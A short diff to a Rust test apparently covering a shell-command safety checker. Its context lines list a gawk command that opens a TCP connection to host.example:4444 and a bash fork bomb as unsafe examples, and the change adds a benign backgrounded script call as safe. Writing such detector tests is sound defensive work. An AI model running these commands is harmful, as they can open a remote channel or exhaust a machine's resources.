@@ -175,4 +175,5 @@ fn relays_and_bombs() {
         &["gawk -f x 'BEGIN { s = \"/inet/tcp/0/host.example/4444\"; s |& getline c }'"],
     );
     all_unsafe("bash", "fork-bomb", &["while true; do bash $0 & done"]);
+    all_safe("bash", &["sh $0 tick &"]);
 }
